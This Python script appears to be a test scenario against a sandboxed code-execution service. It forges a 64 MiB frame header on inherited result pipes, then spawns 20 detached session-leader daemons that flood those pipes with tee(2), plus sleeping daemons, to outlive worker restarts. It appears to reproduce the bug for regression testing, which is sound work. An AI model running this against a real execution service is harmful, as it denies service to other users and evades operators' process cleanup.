# Announce a 64 MiB frame on the result pipe, then keep that pipe full from 20 daemons (each
# in a session of its own, writing with tee(2), which never drains its source), plus sleeping
# daemons: once they kept the zygote in its relay loop, survived the worker's restart and
# slowed every later submission.
# %%
import ctypes, os, struct, time

libc = ctypes.CDLL(None, use_errno=True)
pipes = []
for fd in os.listdir("/proc/self/fd"):
    try:
        if os.readlink(f"/proc/self/fd/{fd}").startswith("pipe:"):
            pipes.append(int(fd))
    except OSError:
        pass
for fd in pipes:
    try:
        os.write(fd, struct.pack(">I", 64 * 1024 * 1024 - 1))
    except OSError:
        pass


def daemon(body):
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            try:
                body()
            finally:
                os._exit(0)
        os._exit(0)
    os.wait()


def writer():
    libc.prctl(15, b"ag-flood-writer", 0, 0, 0)  # PR_SET_NAME: found by the scenario afterwards
    r, w = os.pipe()
    os.write(w, b"x" * 65536)
    while True:
        for fd in pipes:
            libc.tee(r, fd, 65536, 0)


def sleeper():
    os.execv("/bin/sleep", ["sleep", "4243.5"])


for _ in range(20):
    daemon(writer)
for _ in range(5):
    daemon(sleeper)
time.sleep(1000)
